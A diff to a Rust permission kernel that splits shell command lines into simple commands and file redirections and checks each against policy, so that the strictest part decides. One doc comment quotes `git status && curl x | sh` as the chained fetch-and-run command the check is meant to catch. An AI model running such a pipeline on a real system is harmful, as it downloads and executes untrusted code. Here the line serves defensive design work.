@@ -8,11 +8,13 @@ pub mod approval;
 pub mod pattern;
 pub mod policy;
 pub mod policy_test;
+pub mod shell;
 
 use crate::error::{ErrorCode, FlowError};
-use pattern::Pattern;
+use pattern::{Pattern, Vars};
 use policy::{Decision, Policy, Request, Rule, Verdict};
 use serde::Serialize;
+use shell::{Analysis, Command, Redirect};
 use std::cell::RefCell;
 use std::fmt;
 use std::path::Path;
@@ -104,19 +106,130 @@ impl fmt::Display for Capability {
 pub struct Kernel {
     ceiling: Vec<Pattern>,
     policies: RefCell<Vec<Policy>>,
+    /// Where a command's relative redirection targets resolve.
+    vars: Vars,
 }
 
 impl Kernel {
     /// `ceiling` empty means no ceiling beyond the policies.
-    pub fn new(policies: Vec<Policy>, ceiling: Vec<Pattern>) -> Self {
+    pub fn new(policies: Vec<Policy>, ceiling: Vec<Pattern>, vars: Vars) -> Self {
         Kernel {
             ceiling,
             policies: RefCell::new(policies),
+            vars,
         }
     }
 
-    /// The verdict on one capability, with the rule or hook that made it.
+    /// The verdict on one capability. A command line (`proc:spawn`) is
+    /// judged by every simple command in it and every file it redirects
+    /// to or from, so `git *` allowed does not let `git status && curl x | sh`
+    /// through; the strictest part decides.
     pub fn decide(&self, req: &Request) -> Verdict {
+        if req.capability.action != Action::ProcSpawn {
+            return self.decide_one(req);
+        }
+        match shell::analyze(&req.capability.resource) {
+            Analysis::Unparsed { reason } => {
+                let mut v = self.decide_one(req);
+                v.reason = format!("{} (the command was checked whole: {reason})", v.reason);
+                v
+            }
+            Analysis::Parsed(commands) => self.decide_commands(req, &commands),
+        }
+    }
+
+    fn decide_commands(&self, req: &Request, commands: &[Command]) -> Verdict {
+        let mut parts: Vec<Verdict> = Vec::new();
+        for command in commands {
+            if !command.words.is_empty() {
+                let cap = Capability {
+                    action: Action::ProcSpawn,
+                    resource: command.text.clone(),
+                };
+                parts.push(self.part(req, &cap, &command.text));
+            }
+            for redirect in &command.redirects {
+                parts.push(self.redirect(req, redirect));
+            }
+        }
+        let Some(strictest) = parts.iter().map(|v| v.decision).max() else {
+            return verdict(
+                Decision::Allow,
+                "shell analysis".into(),
+                "the line runs no command".into(),
+            );
+        };
+        if strictest == Decision::Allow {
+            let by: Vec<&str> = parts.iter().map(|v| v.by.as_str()).collect();
+            return verdict(
+                Decision::Allow,
+                dedup(by).join("; "),
+                format!(
+                    "every part of the line is allowed ({} checked)",
+                    parts.len()
+                ),
+            );
+        }
+        parts
+            .into_iter()
+            .find(|v| v.decision == strictest)
+            .expect("the strictest part exists")
+    }
+
+    /// One part of a command line, judged as a capability of its own.
+    fn part(&self, req: &Request, cap: &Capability, what: &str) -> Verdict {
+        let mut v = self.decide_one(&Request {
+            capability: cap,
+            ..*req
+        });
+        if cap.to_string() != req.capability.to_string() {
+            v.reason = format!("for `{what}` in the line: {}", v.reason);
+        }
+        v
+    }
+
+    /// A redirection: fs:write (or fs:read) of its target, resolved as the
+    /// command would (relative to the workspace, `~` to home).
+    fn redirect(&self, req: &Request, r: &Redirect) -> Verdict {
+        if r.dynamic {
+            return verdict(
+                Decision::Ask,
+                "shell analysis".into(),
+                format!(
+                    "the redirection target `{}` is only known when the command runs",
+                    r.target
+                ),
+            );
+        }
+        if matches!(
+            r.target.as_str(),
+            "/dev/null" | "/dev/stdout" | "/dev/stderr"
+        ) {
+            return verdict(
+                Decision::Allow,
+                "shell analysis".into(),
+                format!("{} is harmless", r.target),
+            );
+        }
+        let path = match r.target.strip_prefix('~') {
+            Some(rest) if rest.is_empty() || rest.starts_with('/') => match &self.vars.home {
+                Some(home) => home.join(rest.trim_start_matches('/')),
+                None => self.vars.workspace.join(&r.target),
+            },
+            _ => self.vars.workspace.join(&r.target),
+        };
+        let real = crate::fsops::path::canonical_lenient(&path).unwrap_or(path);
+        let action = if r.write {
+            Action::FsWrite
+        } else {
+            Action::FsRead
+        };
+        let cap = Capability::fs(action, &real);
+        self.part(req, &cap, &format!("redirection to {}", r.target))
+    }
+
+    /// The verdict on one capability, in the order of the module doc.
+    fn decide_one(&self, req: &Request) -> Verdict {
         let cap = req.capability;
         if !self.ceiling.is_empty() && !self.ceiling.iter().any(|c| c.matches(cap)) {
             let limits: Vec<&str> = self.ceiling.iter().map(|c| c.as_str()).collect();
@@ -193,6 +306,17 @@ impl Kernel {
         }
         Ok(None)
     }
+}
+
+/// `items` without repeats, in first-seen order.
+fn dedup(items: Vec<&str>) -> Vec<&str> {
+    let mut seen = Vec::new();
+    for item in items {
+        if !seen.contains(&item) {
+            seen.push(item);
+        }
+    }
+    seen
 }
 
 fn verdict(decision: Decision, by: String, reason: String) -> Verdict {
